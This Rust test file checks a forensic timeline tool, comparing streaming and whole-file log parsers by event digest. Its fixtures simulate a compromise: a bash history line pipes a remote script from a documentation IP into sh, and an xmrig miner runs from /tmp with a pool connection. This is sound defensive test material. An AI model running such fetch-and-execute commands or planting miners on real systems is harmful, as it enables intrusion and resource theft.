//! The parsers' output on fixtures, as a digest per parser: streaming (and the bounded
//! `Occurrences`) must give exactly the events the whole-file parsers gave, keys included.
//! The digests were taken from the whole-file parsers (commit a3a54a1); unparsed events' keys
//! are left out (they had none then). Each input is also read through 1- and 7-byte buffers,
//! so lines and records that span reads are covered.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::timeline::builder::Parser;
use crate::timeline::parse::Reopen;
use crate::timeline::{Event, Parsed, Stop};
use sha2::{Digest, Sha256};

pub const MTIME: i64 = 1_795_946_281_000_000_000;

pub const PARSERS: [Parser; 9] = [
    Parser::Syslog("auth.log"),
    Parser::Journal,
    Parser::Utmp("wtmp"),
    Parser::History("bash_history"),
    Parser::History("zsh_history"),
    Parser::Bodyfile,
    Parser::Processes,
    Parser::Network,
    Parser::EventJournal,
];

/// The parser tests' inputs, with repeats, `\r\n` and more, then 400 hostile ones.
pub fn fixtures() -> Vec<Vec<u8>> {
    let mut fixtures: Vec<Vec<u8>> = vec![
        b"Nov 29 09:58:01 ip-10-0-1-17 sshd[4121]: Accepted publickey for alice from 203.0.113.7 port 52144 ssh2: ED25519 SHA256:Vd7Kp0Q3mNfY1kq1sBqLQmS0p8m1f4xT9e2r3c5u6w8
Nov 29 09:58:40 ip-10-0-1-17 sshd[4170]: Failed password for invalid user admin from 198.51.100.9 port 40022 ssh2
Nov 29 09:59:02 ip-10-0-1-17 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u
garbage that is not a log line
garbage that is not a log line
Nov 29 10:00:11 ip-10-0-1-17 su[4300]: (to root) alice on pts/0
Nov 29 10:01:00 ip-10-0-1-17 useradd[4401]: new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash, from=/dev/pts/0
Nov 29 10:02:01 ip-10-0-1-17 CRON[4500]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)
Nov 29 10:02:01 ip-10-0-1-17 CRON[4500]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)
Dec 31 23:59:58 h sshd[1]: Accepted password for bob from 192.0.2.1 port 1 ssh2\r
Jan  1 00:00:03 h sshd[2]: Accepted password for bob from 192.0.2.1 port 2 ssh2
2026-11-29T10:00:00.123456+01:00 h CRON[9]: (root) CMD (true)
2026-11-29T10:00:00.123456+01:00 h CRON[9]: (root) CMD (true)
".to_vec(),
        br#"{"__CURSOR":"s=1;i=2","__REALTIME_TIMESTAMP":"1795946281000000","_PID":"4121","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Accepted password for bob from 192.0.2.5 port 50000 ssh2","_SYSTEMD_UNIT":"ssh.service","_UID":"0"}
not json
{"__REALTIME_TIMESTAMP":"1795946282000000","SYSLOG_IDENTIFIER":["kernel","k2"],"MESSAGE":[104,105]}
"#.to_vec(),
        b"ls -la\n#1795946290\ncurl -s http://198.51.100.20/x.sh | sh\n#1795946300\nrm -f /tmp/x.sh\nid\nid\n".to_vec(),
        b": 1795946290:0;echo one \\\ntwo\n: garbage\n: 1795946299:3;id\n: 1795946299:3;id\n".to_vec(),
        b"0|/etc/passwd|393228|r/rrw-r--r--|0|0|1843|1795946000|1795946281|1795946281|1700000000
d41d8cd98f00b204e9800998ecf8427e|/tmp/a|b.sh|12|r/rrwxr-xr-x|1000|1000|42|1795946290.5|1795946290|1795946290|0
broken|line
0|/x|1|r/r---------|0|0|0|notatime|0|0|0
".to_vec(),
        br#"{"boot_time_unix":1795900000,"processes":[
        {"pid":1,"ppid":0,"comm":"systemd","kernel_thread":false,"vanished":false,"uid":{"real":0},"start_time":"2026-11-28T21:00:01Z","cmdline":["/sbin/init"],"exe":"/usr/lib/systemd/systemd"},
        {"pid":2,"ppid":0,"comm":"kthreadd","kernel_thread":true,"uid":{"real":0},"start_time":"2026-11-28T21:00:01Z","cmdline":[]},
        {"pid":3,"ppid":0,"comm":"x","kernel_thread":false},
        {"pid":4242,"ppid":1,"comm":"xmrig","kernel_thread":false,"vanished":false,"uid":{"real":1000},"start_time":"2026-11-29T09:59:00.5Z","cmdline":["./xmrig","-o","pool:3333"],"exe":"/tmp/.x/xmrig","container_id":"abc"}],
        "collected_at":"2026-11-29T10:05:00Z","errors":[]}"#.to_vec(),
        br#"{"collected_at":"2026-11-29T10:05:00Z","tcp":[{"local_address":"10.0.1.17","local_port":41000,"remote_address":"198.51.100.20","remote_port":3333,"state":"ESTABLISHED","uid":1000,"inode":99,"owners":[{"pid":4242,"comm":"xmrig","fd":5}]}],
        "tcp6":[{"local_address":"::","local_port":22,"remote_address":"::","remote_port":0,"state":"LISTEN","inode":7,"owners":[]}],"errors":[]}"#.to_vec(),
        br#"{"time":"2026-11-29T09:57:52.065472261Z","kind":"process_exec","source":"ebpf","process":{"pid":29190,"tid":29190,"ppid":29153,"uid":0,"gid":0,"euid":0,"comm":"true","exe":"/bin/true","args":["/bin/true","a","b c"],"cwd":"/usr/share","cgroup_id":1,"cgroup":"/","start_time":"2026-11-29T09:57:52.063829304Z"},"parent":{"pid":29153,"comm":"bash"}}
{"time":"2026-11-29T09:57:53Z","kind":"tcp_connect","process":{"pid":1,"exe":"/bin/curl"},"socket":{"saddr":"10.0.0.1","sport":1,"daddr":"10.0.0.2","dport":80}}
not an event
"#.to_vec(),
    ];
    let mut data =
        b"__CURSOR=s=a;i=1\n__REALTIME_TIMESTAMP=1795946281000000\nSYSLOG_IDENTIFIER=sudo\n"
            .to_vec();
    let msg = b"  alice : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/ls\nsecond line";
    data.extend_from_slice(b"MESSAGE\n");
    data.extend_from_slice(&(msg.len() as u64).to_le_bytes());
    data.extend_from_slice(msg);
    data.extend_from_slice(
        b"\n\n__REALTIME_TIMESTAMP=1795946282000000\nMESSAGE=plain\n\nOTHER=1\n\nMESSAGE\n\x05\x00",
    );
    fixtures.push(data);
    let mut x: u64 = 0x1234_5678;
    for round in 0..400 {
        let len = (round * 37) % 3000;
        let data: Vec<u8> = (0..len)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                let alphabet = b"Jan 1 00:00:0#|:;=\n{}[]\"\xff\x00 9\r";
                alphabet[(x % alphabet.len() as u64) as usize]
            })
            .collect();
        fixtures.push(data);
    }
    let mut wtmp = super::utmp::tests::record(2, 0, "~", "reboot", "6.1.0", 1_795_900_000);
    wtmp.extend(super::utmp::tests::record(
        7,
        4121,
        "pts/0",
        "alice",
        "203.0.113.7",
        1_795_946_281,
    ));
    wtmp.extend(super::utmp::tests::record(
        7,
        4121,
        "pts/0",
        "alice",
        "203.0.113.7",
        1_795_946_281,
    ));
    wtmp.extend(super::utmp::tests::record(
        8,
        4121,
        "pts/0",
        "",
        "",
        1_795_946_900,
    ));
    wtmp.extend(super::utmp::tests::record(42, 1, "x", "", "", 5));
    wtmp.extend_from_slice(&[1, 2, 3]);
    fixtures.push(wtmp);
    let mut x: u64 = 0x1234_5678;
    for round in 0..400 {
        let len = (round * 37) % 3000;
        let data: Vec<u8> = (0..len)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                let alphabet = b"Jan 1 00:00:0#|:;=\n{}[]\"\xff\x00 9\r";
                alphabet[(x % alphabet.len() as u64) as usize]
            })
            .collect();
        fixtures.push(data);
    }
    fixtures
}

/// One event as canonical JSON (unparsed events without their key). An inferred time is
/// shown as the attribute it was before `time_source` (#13): `year_inferred` for syslog's
/// years, `time_inferred` for the rest, so the digests stay those of the whole-file parsers.
pub fn canonical(e: &Event) -> String {
    let dedup = (e.kind != "unparsed").then_some(e.dedup);
    let mut attrs = e.attrs.clone();
    match e.time_source.as_deref() {
        Some("inferred_year") => attrs.insert("year_inferred".into(), true.into()),
        Some(_) => attrs.insert("time_inferred".into(), true.into()),
        None => None,
    };
    serde_json::json!([
        e.time_ns,
        e.source,
        e.kind,
        e.pid,
        e.ppid,
        e.exe,
        e.argv,
        e.user,
        e.container,
        e.pod,
        e.message,
        attrs,
        e.path,
        dedup
    ])
    .to_string()
}

/// What a parser gave for every fixture: the SHA-256 of its events, and how many.
pub fn digest(mut parse: impl FnMut(&[u8]) -> (Vec<Event>, u64)) -> String {
    let mut h = Sha256::new();
    let (mut events, mut unparsed) = (0, 0);
    for f in fixtures() {
        let (ev, u) = parse(&f);
        for e in &ev {
            h.update(canonical(e));
            h.update(b"\n");
        }
        h.update(b"--\n");
        events += ev.len();
        unparsed += u;
    }
    format!(
        "{} events, {unparsed} unparsed, {}",
        events,
        hex::encode(h.finalize())
    )
}

/// An input read through a small buffer.
struct Small<'a>(&'a [u8], usize);

impl<'a> Reopen for Small<'a> {
    type Reader = std::io::BufReader<&'a [u8]>;
    fn open(&self) -> Result<Self::Reader, Stop> {
        Ok(std::io::BufReader::with_capacity(self.1, self.0))
    }
}

fn scratch() -> std::path::PathBuf {
    std::env::temp_dir()
}

fn streamed(p: Parser, data: &[u8], buffer: Option<usize>) -> (Vec<Event>, u64) {
    let mut out = Parsed::default();
    let user = Some("u".to_string());
    match buffer {
        Some(n) => p.run(&Small(data, n), user, MTIME, &scratch(), &mut out),
        None => p.run(&data, user, MTIME, &scratch(), &mut out),
    }
    .unwrap();
    (out.events, out.unparsed)
}

/// From the whole-file parsers, in the order of [`PARSERS`].
const WANT: [&str; 9] = [
    "39861 events, 39850 unparsed, f3e174ddf7bc1e8414a2232357b6ff4432f29d7883b272757a3cbc74e43f3ba2",
    "2841 events, 2837 unparsed, 1c00f7eb2e576c6bcb78a8a4b71385120b5cf3c8942135b0ed3d1671f589045c",
    "3523 events, 3519 unparsed, 9100df75fa3118821e4a8c1f95e4bb72004e7d7fb96e388f6ee03a07dd4ececc",
    "39830 events, 429 unparsed, ed0029fd3f29842dcb50ffd2598bdd1b7a85a598e1e703a96b7d4f1aced17d60",
    "39830 events, 429 unparsed, 31d1668e42b3c2354508d9f8bb234554f484fbb1c22dba0c8de13a33f30f93b9",
    "39866 events, 39859 unparsed, 1137f48ba39e174ab55498e8c78897faa665daba4e8ade2cb275f2097ea87836",
    "811 events, 809 unparsed, 77294134ea68b652fc55553b05d3f6e8832f3a36c950698a50a5b27989fc826b",
    "810 events, 808 unparsed, a968134a5746692107594f74bfda5c36e502900745496d6c3860f8be13d6b418",
    // Re-taken when sensor events gained their `uid` attribute and root's name (#13 point 7).
    "39861 events, 39859 unparsed, 9020a1a865fdefd84c61050c50d9d3b00fa8f057e83d3b65276a9ef5cc04e9e4",
];

#[test]
fn streaming_parsers_give_the_events_of_the_whole_file_parsers() {
    for (p, want) in PARSERS.iter().zip(WANT) {
        assert_eq!(digest(|d| streamed(*p, d, None)), want, "{p:?}");
        for n in [1, 7] {
            let got = digest(|d| {
                let blank = d.iter().take_while(|b| b.is_ascii_whitespace()).count();
                if *p == Parser::Journal && blank >= n {
                    // A first buffer all blank is read past, not looked at (see journal.rs).
                    return streamed(*p, d, None);
                }
                streamed(*p, d, Some(n))
            });
            assert_eq!(got, want, "{p:?} through a {n}-byte buffer");
        }
    }
}

/// Every kind and source a parser makes is one the query language knows: a kind missing from
/// `ql::KINDS` could never be searched for (`kind:NAME` would be refused as unknown).
#[test]
fn every_kind_and_source_made_is_searchable() {
    use crate::timeline::ql::{KINDS, SOURCES};
    for p in PARSERS {
        for data in fixtures() {
            let (events, _) = streamed(p, &data, None);
            for e in events {
                assert!(
                    KINDS.contains(&e.kind.as_str()),
                    "{p:?} made kind {:?}, not in ql::KINDS",
                    e.kind
                );
                assert!(
                    SOURCES.contains(&e.source.as_str()),
                    "{p:?} made source {:?}, not in ql::SOURCES",
                    e.source
                );
            }
        }
    }
}
